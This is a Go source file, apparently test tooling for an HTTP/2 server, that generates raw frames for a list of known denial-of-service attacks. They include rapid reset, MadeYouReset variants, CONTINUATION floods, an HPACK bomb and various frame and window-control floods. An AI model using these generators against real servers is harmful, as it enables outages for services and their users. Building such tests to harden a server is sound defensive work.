package http2attack

import (
	"bytes"
	"encoding/binary"
	"time"

	"github.com/spindleloop/spindle/internal/http2"
)

// All has every attack. Paths of requests are / and, for large answers, /large.
var All = []Attack{
	{Name: "rapid reset", Next: requests(get, func(id uint32) []byte { return frame(nil, reset, 0, id, number(8)) })},
	{Name: "MadeYouReset, window of zero", Next: requests(get, func(id uint32) []byte { return frame(nil, window, 0, id, number(0)) })},
	{Name: "MadeYouReset, window overflow", Next: requests(get, func(id uint32) []byte { return frame(nil, window, 0, id, number(1<<31-1)) })},
	{Name: "MadeYouReset, size of PRIORITY", Next: requests(get, func(id uint32) []byte { return frame(nil, priority, 0, id, []byte{1}) })},
	{Name: "MadeYouReset, self-dependency", Next: requests(get, func(id uint32) []byte { return frame(nil, priority, 0, id, dependency(id)) })},
	{Name: "MadeYouReset, data after the end", Next: requests(get, func(id uint32) []byte { return frame(nil, data, endStream, id, []byte("x")) })},

	{Name: "CONTINUATION", Start: frame(nil, headers, endStream, 1, get), Next: flood(frame(nil, continuation, 0, 1, make([]byte, 16<<10)))},
	{Name: "CONTINUATION, empty", Start: frame(nil, headers, endStream, 1, get), Next: flood(frame(nil, continuation, 0, 1, nil))},
	{Name: "HPACK bomb", Start: frame(nil, headers, endStream|endHeaders, 1, largeField), Next: bombs},

	{Name: "SETTINGS", Next: flood(frame(nil, settings, 0, 0, nil))},
	{Name: "SETTINGS, unread", Deaf: true, Next: flood(frame(nil, settings, 0, 0, nil))},
	{Name: "SETTINGS, large", Next: flood(frame(nil, settings, 0, 0, bytes.Repeat(setting(initialWindow, 1), 2730)))},
	{Name: "PING", Next: flood(frame(nil, ping, 0, 0, make([]byte, 8)))},
	{Name: "PING, unread", Deaf: true, Next: flood(frame(nil, ping, 0, 0, make([]byte, 8)))},
	{Name: "PRIORITY", Next: flood(frame(nil, priority, 0, 1, dependency(3)))},
	{Name: "empty DATA", Start: frame(nil, headers, endHeaders, 1, post), Next: flood(frame(nil, data, 0, 1, nil))},
	{Name: "padded DATA", Start: frame(nil, headers, endHeaders, 1, post), Next: flood(frame(nil, data, padded, 1, append([]byte{255}, make([]byte, 255)...)))},
	{Name: "WINDOW_UPDATE", Start: frame(nil, headers, endHeaders, 1, post), Next: flood(frame(frame(nil, window, 0, 0, number(1)), window, 0, 1, number(1)))},
	{Name: "unknown frames", Next: flood(frame(nil, 0xee, 0, 0, nil))},

	{Name: "window overflow", Next: flood(frame(nil, window, 0, 0, number(1<<31-1)))},
	{Name: "zero windows", Start: frame(nil, settings, 0, 0, setting(initialWindow, 0)), Next: upTo(250, requests(getLarge, nil))},
	{Name: "one byte at a time", Start: dribbleStart(), Next: dribble},
	{Name: "answers unread", Deaf: true, Start: wideWindows, Next: requests(getLarge, nil)},
	{Name: "slow bodies", Pause: 10 * time.Millisecond, Next: slowBodies},

	{Name: "fields of zero length", Next: requests(bytes.Repeat([]byte{0, 0, 0}, 500), nil)},
	{Name: "self-dependency in PRIORITY", Next: flood(frame(nil, priority, 0, 1, dependency(1)))},
	{Name: "self-dependency in HEADERS", Next: func(i int) []byte {
		id := streamID(i)
		return frame(nil, headers, endStream|endHeaders|hasPriority, id, append(dependency(id), get...))
	}},
	{Name: "upgrade from HTTP/1.1", Raw: true, Start: []byte("GET / HTTP/1.1\r\nHost: a\r\nConnection: Upgrade, HTTP2-Settings\r\n" +
		"Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n" + http2.Preface), Next: flood(frame(nil, settings, 0, 0, nil))},
}

// The fields of requests, as literals and entries of the static table: they depend on no
// request before.
var (
	authority = append([]byte{0x41, 9}, "a.example"...)
	get       = append([]byte{0x82, 0x86, 0x84}, authority...)
	post      = append([]byte{0x83, 0x86, 0x84}, authority...)
	getLarge  = append(append([]byte{0x82, 0x86, 0x04, 6}, "/large"...), authority...)
)

// requests begins a request in each step, and adds frames to it.
func requests(block []byte, then func(id uint32) []byte) func(int) []byte {
	return func(i int) []byte {
		id := streamID(i)
		b := frame(nil, headers, endStream|endHeaders, id, block)
		if then != nil {
			b = append(b, then(id)...)
		}
		return b
	}
}

func streamID(i int) uint32 { return uint32(2*i + 1) }

// flood sends the same frames again and again.
func flood(b []byte) func(int) []byte {
	all := bytes.Repeat(b, 1+4096/len(b))
	return func(int) []byte { return all }
}

// upTo makes n steps, and nothing more.
func upTo(n int, next func(int) []byte) func(int) []byte {
	return func(i int) []byte {
		if i >= n {
			return nil
		}
		return next(i)
	}
}

// largeField is a request with a field of 4,000 bytes, which the table keeps.
var largeField = func() []byte {
	b := append(bytes.Clone(get), 0x40, 1, 'x', 127, 0xa1, 0x1e) // 127 + 3873
	return append(b, bytes.Repeat([]byte{'x'}, 4000)...)
}()

// bombs refers 16,000 times to that field in each request: 64 MB.
func bombs(i int) []byte {
	block := append(bytes.Clone(get[:3]), bytes.Repeat([]byte{0x80 | 62}, 16_000)...)
	return frame(nil, headers, endStream|endHeaders, streamID(i+1), block)
}

const dribbled = 100 // streams

func dribbleStart() []byte {
	b := frame(nil, settings, 0, 0, setting(initialWindow, 0))
	for i := range dribbled {
		b = append(b, requests(getLarge, nil)(i)...)
	}
	return b
}

// dribble allows a byte on each stream.
func dribble(int) (b []byte) {
	for i := range dribbled {
		b = frame(b, window, 0, streamID(i), number(1))
	}
	return b
}

// wideWindows allows everything.
var wideWindows = frame(frame(nil, settings, 0, 0, setting(initialWindow, 1<<31-1)), window, 0, 0, number(1<<30))

// slowBodies begins 100 uploads and sends a byte of each in each step.
func slowBodies(i int) (b []byte) {
	for n := range 100 {
		if i == 0 {
			b = frame(b, headers, endHeaders, streamID(n), post)
		} else {
			b = frame(b, data, 0, streamID(n), []byte("x"))
		}
	}
	return b
}

// Kinds of frames, and their flags.
const (
	data         = 0x0
	headers      = 0x1
	priority     = 0x2
	reset        = 0x3
	settings     = 0x4
	ping         = 0x6
	goAway       = 0x7
	window       = 0x8
	continuation = 0x9

	endStream   = 0x1
	endHeaders  = 0x4
	padded      = 0x8
	hasPriority = 0x20

	initialWindow = 0x4 // a setting

	frameHeadSize = 9
)

func frame(b []byte, kind, flags byte, id uint32, payload []byte) []byte {
	n := len(payload)
	b = append(b, byte(n>>16), byte(n>>8), byte(n), kind, flags)
	b = binary.BigEndian.AppendUint32(b, id)
	return append(b, payload...)
}

func number(n uint32) []byte { return binary.BigEndian.AppendUint32(nil, n) }

func setting(id uint16, value uint32) []byte {
	return binary.BigEndian.AppendUint32(binary.BigEndian.AppendUint16(nil, id), value)
}

// dependency is the payload of PRIORITY.
func dependency(on uint32) []byte { return append(number(on), 1) }
